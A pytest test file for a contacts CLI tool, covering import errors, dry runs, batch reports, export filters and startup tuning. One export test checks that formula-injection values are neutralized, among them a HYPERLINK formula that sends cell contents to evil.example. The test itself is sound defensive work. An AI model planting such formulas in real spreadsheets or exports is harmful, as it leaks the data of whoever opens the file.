"""The `contacts` command line: exit codes, exact stderr lines, and what is (not) written.

Only the tests marked with the `prefect_server` fixture run the import flow; the rest
set up their database through the library (`workspace.run_import`) and stay fast.
"""

from __future__ import annotations

import csv
import hashlib
import json
from datetime import datetime
from pathlib import Path

import pytest

from store.db import now

FIXTURES = Path(__file__).parent / "fixtures"

# PRODUCT.md section 8, in its order.
SECTION_8_KEYS = [
    "batch_id", "source", "sha256", "status", "rows_total", "imported", "updated",
    "duplicates_in_file", "duplicates_existing", "duplicates_skipped", "invalid", "dnc",
    "campaign_excluded_dnc", "mapping", "rejects_file", "started_at", "finished_at",
]  # fmt: skip
REJECT_COLUMNS = ["row", "reason", "message", "suggested_phone"]
UTF8_MAPPING = "First Name -> first_name, Last Name -> last_name, Phone -> phone, " \
               "Email -> email, Company -> company"  # fmt: skip


def fixture(name: str) -> str:
    return str(FIXTURES / name)


def nothing_written(workspace) -> bool:
    return not workspace.db.exists() and not (workspace.data_dir / "batches").exists()


def fingerprint(workspace) -> tuple[str, list[str]]:
    """The database's bytes and the batch folders: both must survive a failed import."""
    batches = workspace.data_dir / "batches"
    folders = sorted(p.name for p in batches.iterdir()) if batches.exists() else []
    return hashlib.sha256(workspace.db.read_bytes()).hexdigest(), folders


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        return list(reader.fieldnames or []), rows


def add_dnc(db: Path, phone: str) -> None:
    from contacts.dnc import add_numbers

    add_numbers(db, [phone], source="manual", reason="test", actor="pytest", at=now())


# --- import: batch-level failures (these run the flow, as users do) ---------------------

EMPTY = "is empty; export the contacts again with a header row"
CP1251 = (
    "is not UTF-8 and not Western European text (it may be cp1251); "
    "re-export it as UTF-8 or pass --encoding"
)
NO_PHONE = (
    "no phone column found (columns: 'First Name', 'Last Name', 'Email', 'Company'); "
    "name it with --map 'COLUMN=phone'"
)
UTF8_COLUMNS = "First Name, Last Name, Phone, Email, Company"
# (case, fixture file or a path made in the test, extra args, exit code, stderr message)
FAILURES = [
    ("missing_file", "<missing>", [], 1, "{path}: no such file; check the path"),
    ("directory", "<directory>", [], 1, "{path}: is a directory; "
                                        "pass a .csv, .tsv, .txt or .xlsx file"),
    ("empty_file", "empty.csv", [], 1, "{path}: " + EMPTY),
    ("whitespace_only", "whitespace_only.csv", [], 1, "{path}: " + EMPTY),
    ("binary_file", "binary.csv", [], 1, "{path}: is not a text file (binary content); "
                                         "export it as CSV or XLSX"),
    ("cp1251_refused", "cp1251_cyrillic.csv", [], 1, "{path}: " + CP1251),
    ("no_phone_column", "no_phone_column.csv", [], 1, NO_PHONE),
    (
        "map_missing_column", "utf8.csv", ["--map", "Mobile=phone"], 2,
        f"--map names column 'Mobile', which the file does not have; its columns are: "
        f"{UTF8_COLUMNS}",
    ),
]  # fmt: skip


@pytest.mark.parametrize(
    ("file", "extra", "code", "message"), [f[1:] for f in FAILURES], ids=[f[0] for f in FAILURES]
)
def test_import_that_cannot_run_exits_with_one_line_and_writes_nothing(
    cli, workspace, prefect_server, file, extra, code, message
) -> None:
    path = fixture(file)
    if file == "<missing>":
        path = str(workspace.root / "nope.csv")
    elif file == "<directory>":
        path = str(workspace.root / "exports")
        Path(path).mkdir()
    result = cli("import", path, *extra, "--json")
    assert result.exit_code == code
    assert result.stderr == f"Error: {message.format(path=path)}\n"
    assert result.stdout == ""
    assert nothing_written(workspace)


@pytest.mark.parametrize(
    ("file", "extra", "code"),
    [("no_phone_column.csv", [], 1), ("utf8.csv", ["--map", "Mobile=phone"], 2)],
    ids=["no_phone_column", "map_missing_column"],
)
def test_failed_import_leaves_an_existing_database_unchanged(
    cli, workspace, prefect_server, file, extra, code
) -> None:
    workspace.run_import(FIXTURES / "ragged_rows.csv")
    before = fingerprint(workspace)
    result = cli("import", fixture(file), *extra)
    assert (result.exit_code, result.stdout) == (code, "")
    assert len(result.stderr.splitlines()) == 1
    assert fingerprint(workspace) == before


# --- import: usage errors (refused before any file or database is touched) -------------

USAGE = [
    (
        ["import", fixture("utf8.csv"), "--map", "Phone=telephone"],
        "--map 'Phone=telephone': unknown field 'telephone'; use one of phone, "
        "phone_extension, first_name, last_name, full_name, email, company, title, country, "
        "attribute, ignore",
    ),
    (
        ["import", fixture("utf8.csv"), "--map", "Phone"],
        "--map 'Phone' is not COLUMN=FIELD, e.g. --map 'Cell=phone'",
    ),
    (
        ["import", fixture("utf8.csv"), "--on-duplicate", "merge"],
        "--on-duplicate 'merge' is not one of skip, update, fill",
    ),
    (
        ["import", fixture("utf8.csv"), "--region", "XX"],
        "--region 'XX' is not a known region; use e.g. US, GB",
    ),
    (
        ["import", fixture("utf8.csv"), "--region", "Narnia"],
        "--region 'Narnia' is not a known region; use e.g. US, GB",
    ),
    (["import", fixture("utf8.csv"), "--campaign", " "], "--campaign needs a name"),
    (["import"], "Missing argument 'file'."),
    (["import", fixture("utf8.csv"), "--bogus"], "No such option: --bogus"),
    (
        ["export", "--out", "x.csv", "--status", "bogus"],
        "--status 'bogus' is not one of active, dnc",
    ),
]
USAGE_IDS = [
    "unknown_map_field", "map_without_field", "bad_on_duplicate", "bad_region_code",
    "bad_region_name", "blank_campaign", "missing_argument", "unknown_option", "bad_export_status",
]  # fmt: skip


@pytest.mark.parametrize(("args", "message"), USAGE, ids=USAGE_IDS)
def test_usage_error_exits_2_with_one_line(cli, workspace, monkeypatch, args, message) -> None:
    monkeypatch.chdir(workspace.root)
    result = cli(*args)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == f"Error: {message}\n"
    assert nothing_written(workspace)
    assert not (workspace.root / "x.csv").exists()


def test_unknown_encoding_is_a_usage_error(cli, workspace, prefect_server) -> None:
    result = cli("import", fixture("utf8.csv"), "--encoding", "klingon")
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: ")
    assert "--encoding" in result.stderr
    assert nothing_written(workspace)


# --- import: dry run -----------------------------------------------------------------


def test_dry_run_prints_the_mapping_and_writes_nothing(cli, workspace) -> None:
    path = fixture("utf8.csv")
    result = cli("import", path, "--dry-run")
    assert (result.exit_code, result.stderr) == (0, "")
    lines = result.stdout.splitlines()
    assert lines[0] == f"Dry run of {path}: nothing was written"
    assert f"  mapping     {UTF8_MAPPING}" in lines
    assert "  rows                4" in lines
    assert nothing_written(workspace)
    assert not workspace.data_dir.exists()


def test_dry_run_compares_with_the_database_without_changing_it(cli, workspace) -> None:
    workspace.run_import(FIXTURES / "utf8.csv")
    before = fingerprint(workspace)
    result = cli("import", fixture("utf8_bom.csv"), "--dry-run")
    assert result.exit_code == 0
    assert "  duplicates          4   (0 within the file, 4 already stored)" in result.stdout
    assert fingerprint(workspace) == before


def test_encoding_hint_works_for_the_refused_cp1251_file(cli, workspace) -> None:
    result = cli("import", fixture("cp1251_cyrillic.csv"), "--encoding", "cp1251", "--dry-run")
    assert (result.exit_code, result.stderr) == (0, "")
    assert "  rows                3" in result.stdout.splitlines()
    assert nothing_written(workspace)


def test_dry_run_of_a_classic_mac_csv_does_not_crash(cli, workspace) -> None:
    result = cli("import", fixture("cr_line_endings.csv"), "--dry-run")
    assert result.exit_code == 0
    assert "  rows                2" in result.stdout.splitlines()


# --- import: success through the flow --------------------------------------------------


def test_import_json_prints_one_object_with_the_section_8_keys(
    cli, workspace, prefect_server
) -> None:
    path = fixture("ragged_rows.csv")
    result = cli("import", path, "--json")
    assert (result.exit_code, result.stderr) == (0, "")
    assert len(result.stdout.splitlines()) == 1
    stats = json.loads(result.stdout)
    assert list(stats) == SECTION_8_KEYS
    assert stats["status"] == "completed"
    assert stats["source"] == path
    assert stats["sha256"] == hashlib.sha256(Path(path).read_bytes()).hexdigest()
    assert {k: stats[k] for k in SECTION_8_KEYS[4:13]} == {
        "rows_total": 5, "imported": 3, "updated": 0, "duplicates_in_file": 0,
        "duplicates_existing": 0, "duplicates_skipped": 0, "invalid": 2, "dnc": 0,
        "campaign_excluded_dnc": 0,
    }  # fmt: skip
    assert stats["mapping"] == {
        "First Name": "first_name", "Last Name": "last_name", "Phone": "phone",
        "Company": "company",
    }  # fmt: skip
    assert datetime.fromisoformat(stats["started_at"]) <= datetime.fromisoformat(
        stats["finished_at"]
    )

    rejects = Path(stats["rejects_file"])
    assert rejects == workspace.data_dir / "batches" / stats["batch_id"] / "rejects.csv"
    columns, rows = read_csv(rejects)
    assert columns == ["First Name", "Last Name", "Phone", "Company", *REJECT_COLUMNS]
    assert [(r["row"], r["reason"]) for r in rows] == [("3", "malformed_row"), ("5", "missing")]
    report = json.loads((rejects.parent / "report.json").read_text(encoding="utf-8"))
    assert {k: report[k] for k in SECTION_8_KEYS} == stats


def test_reimporting_the_same_file_imports_nothing(cli, workspace, prefect_server) -> None:
    path = fixture("duplicate_phones.csv")
    first = json.loads(cli("import", path, "--json").stdout)
    result = cli("import", path, "--json")
    assert result.exit_code == 0
    again = json.loads(result.stdout)
    assert again["batch_id"] != first["batch_id"]
    assert (again["rows_total"], again["imported"], again["updated"]) == (5, 0, 0)
    assert (again["duplicates_existing"], again["duplicates_in_file"]) == (2, 3)
    _, rows = read_csv(Path(again["rejects_file"]))
    assert len(rows) == again["rows_total"]  # every row is a duplicate (or a reject)
    assert {r["reason"] for r in rows} == {"duplicate_existing", "duplicate_in_file"}
    assert [r["row"] for r in rows] == ["1", "2", "3", "4", "5"]


# --- export ----------------------------------------------------------------------------

EXPORT_COLUMNS = [
    "phone", "first_name", "last_name", "email", "company", "title", "status",
    "last_called_at", "call_count",
]  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_export_neutralizes_formulas_but_not_the_e164_phone(cli, workspace) -> None:
    workspace.run_import(FIXTURES / "formula_payloads.csv")
    out = workspace.root / "out" / "contacts.csv"
    result = cli("export", "--out", str(out))
    assert (result.exit_code, result.stderr) == (0, "")
    assert result.stdout == f"Exported 4 contacts to {out}\n"
    columns, rows = read_csv(out)
    assert columns[: len(EXPORT_COLUMNS)] == EXPORT_COLUMNS
    by_phone = {r["phone"]: (r["first_name"], r["company"]) for r in rows}
    assert by_phone == {
        "+16502530000": ('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "Acme"),
        "+12127365000": ("'+SUM(A1)", "'-2+3"),
        "+442079460000": ("'-2+3", "'@cmd"),
        "+16172531000": ("'@cmd", "Globex"),
    }
    for row in rows:
        dangerous = [k for k, v in row.items() if k != "phone" and v.startswith(FORMULA_START)]
        assert dangerous == []


EXPORTS = [
    ([], {"+16502530000", "+12127365000", "+442079460000", "+16172531000"}),
    (["--status", "active"], {"+16502530000", "+442079460000", "+16172531000"}),
    (["--status", "dnc"], {"+12127365000"}),
    (["--callable"], {"+16502530000", "+442079460000", "+16172531000"}),
    (["--search", "650.253.0000"], {"+16502530000"}),
    (["--search", "+1 (617) 253-1000"], {"+16172531000"}),
    (["--search", "020 7946 0000", "--region", "GB"], {"+442079460000"}),
    (["--search", "(212) 736 5000", "--status", "dnc"], {"+12127365000"}),
    (["--search", "212.736.5000", "--callable"], set()),
    (["--search", "müller"], {"+16502530000"}),
]
EXPORT_IDS = [
    "all", "status_active", "status_dnc", "callable", "search_dotted", "search_e164_spaced",
    "search_national_gb", "search_dnc", "search_callable_dnc", "search_name",
]  # fmt: skip


@pytest.mark.parametrize(("args", "phones"), EXPORTS, ids=EXPORT_IDS)
def test_export_filters(cli, workspace, args: list[str], phones: set[str]) -> None:
    workspace.run_import(FIXTURES / "utf8.csv")
    add_dnc(workspace.db, "+12127365000")
    out = workspace.root / "selection.csv"
    result = cli("export", "--out", str(out), *args)
    assert (result.exit_code, result.stderr) == (0, "")
    assert result.stdout == f"Exported {len(phones)} contacts to {out}\n"
    _, rows = read_csv(out)
    assert {r["phone"] for r in rows} == phones
    assert all(r["status"] == ("dnc" if r["phone"] == "+12127365000" else "active") for r in rows)


# --- batches ---------------------------------------------------------------------------


def test_batches_json_before_any_import_is_an_empty_list(cli, workspace) -> None:
    result = cli("batches", "--json")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "[]\n", "")
    assert not workspace.db.exists()


def test_batches_json_lists_batches_newest_first(cli, workspace) -> None:
    first = workspace.run_import(FIXTURES / "utf8.csv")
    second = workspace.run_import(FIXTURES / "ragged_rows.csv")
    result = cli("batches", "--json")
    assert (result.exit_code, result.stderr) == (0, "")
    rows = json.loads(result.stdout)
    assert [r["id"] for r in rows] == [second.batch_id, first.batch_id]
    newest = rows[0]
    assert newest["status"] == "completed"
    assert newest["source"] == str(FIXTURES / "ragged_rows.csv")
    assert newest["sha256"] == second.sha256
    counts = ("rows_total", "imported", "updated", "duplicates_in_file", "invalid")
    assert {k: newest[k] for k in counts} == {k: getattr(second, k) for k in counts}
    assert newest["mapping"] == second.mapping


def test_batch_show_of_an_unknown_id_names_the_command_that_lists_them(cli, workspace) -> None:
    workspace.run_import(FIXTURES / "utf8.csv")
    result = cli("batch", "show", "nope")
    assert result.exit_code == 1
    assert result.stderr == "Error: no batch 'nope'; list them with 'contacts batches'\n"


# --- the console script's fixed cost ----------------------------------------------------

SCRIPT = """\
import sys
from contacts.cli import main
from contacts.cli_process import ProcessExit


class Teardown:
    def __del__(self):
        print("torn down", file=sys.stderr)


witness = Teardown()  # collected only if the interpreter tears down
ProcessExit.ran_flow = {ran_flow}  # as after a flow run
sys.exit(main())
"""


def run_script(tmp_path: Path, *args: str, ran_flow: bool = True, name: str = "contacts"):
    import subprocess
    import sys

    script = tmp_path / name
    script.write_text(SCRIPT.format(ran_flow=ran_flow), encoding="utf-8")
    return subprocess.run(
        [sys.executable, str(script), "--db", str(tmp_path / "c.duckdb"), *args],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def test_after_a_flow_the_script_exits_with_its_code_and_output_but_no_teardown(tmp_path):
    done = run_script(tmp_path, "batches", "--json")
    assert (done.returncode, done.stdout, done.stderr) == (0, "[]\n", "")
    done = run_script(tmp_path, "batch", "show", "nope")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == "Error: no batch 'nope'; list them with 'contacts batches'\n"
    done = run_script(tmp_path, "--nope")
    assert (done.returncode, done.stderr) == (2, "Error: No such option: --nope\n")


def test_without_a_flow_or_outside_the_script_the_interpreter_tears_down(tmp_path):
    for done in (
        run_script(tmp_path, "batches", "--json", ran_flow=False),
        run_script(tmp_path, "batches", "--json", name="other_program"),
    ):
        assert (done.returncode, done.stdout, done.stderr) == (0, "[]\n", "torn down\n")


def test_in_process_main_leaves_the_exit_and_the_collector_alone(cli, workspace) -> None:
    import gc

    from contacts.cli_process import ProcessExit, gc_paused

    assert cli("batches", "--json").exit_code == 0
    assert not ProcessExit.owned
    frozen = gc.get_freeze_count()
    with gc_paused():
        assert not gc.isenabled()
    assert gc.isenabled() and gc.get_freeze_count() == frozen


def test_the_script_tunes_polars_allocator_before_polars_loads(tmp_path):
    import subprocess
    import sys

    from contacts.cli_process import ALLOCATOR_CONF, ALLOCATOR_ENV, tune_allocator

    environ: dict[str, str] = {}
    tune_allocator(environ)
    assert environ == {ALLOCATOR_ENV: ALLOCATOR_CONF}
    environ = {ALLOCATOR_ENV: "dirty_decay_ms:0"}
    tune_allocator(environ)  # a user's own setting wins
    assert environ == {ALLOCATOR_ENV: "dirty_decay_ms:0"}
    # main() sets it first thing; that only works while polars is not loaded yet
    loaded = subprocess.run(
        [sys.executable, "-c", "import sys, contacts.cli; print('polars' in sys.modules)"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert loaded.stdout == "False\n"


def test_the_script_gives_openblas_one_thread_before_numpy_loads():
    import os
    import subprocess
    import sys

    from contacts.cli_process import BLAS_THREADS_ENV, tune_blas

    environ: dict[str, str] = {}
    tune_blas(environ)
    assert environ == {BLAS_THREADS_ENV: "1"}
    environ = {BLAS_THREADS_ENV: "4"}
    tune_blas(environ)  # a user's own setting wins
    assert environ == {BLAS_THREADS_ENV: "4"}
    code = (
        "import os, sys, contacts.cli\n"
        "print('numpy' in sys.modules)\n"
        "sys.argv = ['contacts', '--help']\n"
        "try:\n    contacts.cli.main()\nexcept SystemExit:\n    pass\n"
        "print(os.environ.get('OPENBLAS_NUM_THREADS'))\n"
    )
    environ = {k: v for k, v in os.environ.items() if k != BLAS_THREADS_ENV}
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, env=environ
    )
    lines = done.stdout.splitlines()
    assert (lines[0], lines[-1]) == ("False", "1"), done.stderr


def test_validation_loads_pandera_without_pandas_yet_pandas_still_imports():
    import subprocess
    import sys

    code = (
        "import sys, polars as pl, schemas.contact as s, transforms.calls\n"
        "frame = pl.DataFrame({'_row': [1, 2], 'a': ['x', 'y' * 20_000]})\n"
        "print(s.failure_rows(s.raw_schema(['a'], []), frame).get_column('_row').to_list())\n"
        "print('pandas' in sys.modules or 'hypothesis' in sys.modules)\n"
        "import pandas\n"
        "print(pandas.__name__)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, "[2]\nFalse\npandas\n"), done.stderr
